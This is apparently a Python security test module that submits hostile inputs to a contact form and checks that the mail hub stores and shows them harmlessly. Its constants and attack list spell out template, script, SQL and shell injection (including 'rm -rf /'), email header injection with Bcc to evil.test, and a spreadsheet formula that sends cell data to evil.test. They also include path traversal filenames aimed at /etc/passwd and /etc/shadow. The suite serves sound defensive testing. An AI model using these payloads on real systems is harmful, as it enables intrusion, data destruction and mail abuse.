"""What is stored must stay harmless: templates, formulas, scripts, headers and addresses in every field."""

from urllib.parse import urlencode

import httpx

from services.hub.mailbox.files import Caught
from tests.hostile.attack import Attack
from tests.hostile.target import Target
from tests.support.wait import until

# A product that no token and no time of day holds by chance.
LIQUID = "{{7919*7907}}{%for-i-in-(1..99999999)%}{{unsubscribe_url}}"
PRODUCT = "62615533"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Plantedformula")'
CEL = '" || true || "'
BREAK = "Sam\r\nBcc: victim@evil.test\r\nX-Evil: yes\r\n\r\nPlantedbody"
SHELL = "$(touch /tmp/planted) `id` ; rm -rf / ' OR 1=1 --"
_FIELDS = ("your-name", "question", "course", "level", "tel")


async def _planted(target: Target, address: str, value: str) -> Caught:
    """The letter to somebody who put a value into every field."""
    filled = urlencode({**dict.fromkeys(_FIELDS, value), "your-email": address, value: value})
    answer = await target.post_form(filled.encode("utf-8", "replace"))
    assert answer.status_code == 200, answer.text
    return await target.hub.letter_to(address)


async def _liquid(target: Target) -> str:
    letter = await _planted(target, "liquid@hostile.test", LIQUID)
    whole = letter.summary.subject + letter.text
    literal = whole.count(LIQUID)
    return f"written out {literal} times, worked out {whole.count(PRODUCT)} times"


async def _header(target: Target) -> str:
    letter = await _planted(target, "header@hostile.test", BREAK)
    names = {name.lower() for name, _ in letter.headers}
    elsewhere = [one for one in target.hub.letters() if "evil.test" in one.summary.recipient]
    return f"bcc {'bcc' in names}, x-evil {'x-evil' in names}, to others {len(elsewhere)}"


async def _subject(target: Target) -> str:
    """Encoded words and folding inside a name: the subject stays one line and says what was typed."""
    typed = "=?utf-8?q?Evil=0D=0ABcc:_victim@evil.test?="
    letter = await _planted(target, "subject@hostile.test", typed)
    raw = letter.raw.partition(b"\r\n\r\n")[0].lower()
    return "one line" if b"\nbcc:" not in raw and "\n" not in letter.summary.subject else "broken out"


async def _page(target: Target) -> str:
    """The pages of the mailbox: nothing of a letter becomes part of the page."""
    letter = await _planted(target, "script@hostile.test", SCRIPT)
    found = []
    for path in ("/mailbox", f"/mailbox/{letter.summary.name}", f"/mailbox/{letter.summary.name}/raw"):
        page = await target.send("GET", path)
        found.append(_harmless(page))
    return f"{page.status_code} {sorted(set(found))}"


def _harmless(page: httpx.Response) -> str:
    policy = page.headers.get("content-security-policy", "")
    if "default-src 'none'" not in policy or "nosniff" not in page.headers.get("x-content-type-options", ""):
        return "no policy"
    if page.headers["content-type"].startswith("text/plain"):
        return "harmless"
    return "harmless" if "<script>" not in page.text and "<img" not in page.text else "script"


async def _api(target: Target) -> str:
    answers = [
        await target.api("GET", "/api/leads/contacts?identity=script%40hostile.test"),
        await target.api("GET", "/api/leads/leads"),
        await target.api("GET", "/api/deals/deals"),
    ]
    kinds = {answer.headers["content-type"] for answer in answers}
    sniffed = {answer.headers.get("x-content-type-options") for answer in answers}
    return f"{sorted(kinds)} {sorted(map(str, sniffed))}"


async def _formula(target: Target) -> str:
    """Kept as it was typed: what exports to a spreadsheet must quote it there."""
    await _planted(target, "formula@hostile.test", FORMULA)
    [contact] = (await target.api("GET", "/api/leads/contacts?identity=formula%40hostile.test")).json()[
        "contacts"
    ]
    return "as typed" if contact["name"] == FORMULA else str(contact["name"])


async def _cel(target: Target) -> str:
    """A value is never part of a rule: the points are those of an honest enquiry with these fields."""
    await _planted(target, "cel@hostile.test", CEL)
    rows = await target.hub.rows(
        "SELECT l.points::text AS points FROM leads.leads l JOIN leads.identities i USING (contact_id)"
        " WHERE i.value = 'cel@hostile.test'"
    )
    return str(rows[0]["points"])


async def _shell(target: Target) -> str:
    before = await target.hub.count("leads.contacts")
    await _planted(target, "shell@hostile.test", SHELL)
    return f"{await target.hub.count('leads.contacts') - before} contact"


def _address(value: str) -> Attack:
    async def run(target: Target) -> str:
        filled = urlencode({"your-name": "Plantedfirst", "your-email": value})
        fate = await target.fate(await target.post_form(filled.encode()))
        await _quiet(target)
        stray = [one for one in target.hub.letters() if "evil.test" in one.summary.recipient]
        return f"{fate}, {len(stray)} stray letters"

    return Attack("address", repr(value), "200 accepted, 0 stray letters", run)


async def _quiet(target: Target) -> None:
    """Wait until nothing is on its way from one service to the next."""

    async def settled() -> bool:
        [waiting] = await target.hub.rows(
            "SELECT (SELECT count(*) FROM notifications.messages WHERE state IN ('queued', 'sending'))"
            " + (SELECT count(*) FROM leads.outbox WHERE published_at IS NULL)"
        )
        return int(waiting[0]) == 0

    await until(settled, 30, why="every letter to be on its way")


def _file(name: str, kept: str) -> Attack:
    async def run(target: Target) -> str:
        address = f"file{abs(hash(name))}@hostile.test"
        body = (
            f'--b\r\nContent-Disposition: form-data; name="your-email"\r\n\r\n{address}\r\n'
            f'--b\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\nx\r\n--b--\r\n'
        )
        answer = await target.post_form(body.encode(), "multipart/form-data; boundary=b")
        fate = await target.fate(answer)
        if not fate.startswith("200 accepted"):
            return fate
        await target.hub.letter_to(address)
        rows = await target.hub.rows(
            "SELECT attachments->0->>'name' AS name FROM leads.interactions WHERE delivery_id = $1",
            answer.json()["delivery"],
        )
        return str(rows[0]["name"])

    return Attack("file", repr(name), kept, run)


CONTENT = [
    Attack("template", "Liquid in every field", "written out [1-9] times, worked out 0 times", _liquid),
    Attack("header", "line breaks and Bcc in every field", "bcc False, x-evil False, to others 0", _header),
    Attack("header", "an encoded word that breaks a line", "one line", _subject),
    Attack("html", "script in every field, on the mailbox's pages", r"200 \['harmless'\]", _page),
    Attack("html", "the same through the APIs", r"\['application/json'\] \['nosniff'\]", _api),
    Attack("formula", "a spreadsheet formula in every field", "as typed", _formula),
    Attack("rule", "CEL in every field", r'\{"named a course": 15\}', _cel),
    Attack("shell", "SQL and shell in every field", "1 contact", _shell),
    *map(
        _address,
        (
            "a@evil.test,b@evil.test",
            "a@evil.test\r\nRCPT TO:<b@evil.test>",
            "<a@evil.test>",
            '"x"@evil.test>, <b',
            "a@" + "b." * 200 + "test",
        ),
    ),
    _file("../../etc/passwd", "passwd"),
    _file("/etc/shadow", "shadow"),
    _file("..\\\\..\\\\boot.ini", "boot.ini"),
    _file("..", "file"),
    _file("a\0b.txt", "ab.txt|200 failed.*"),
]
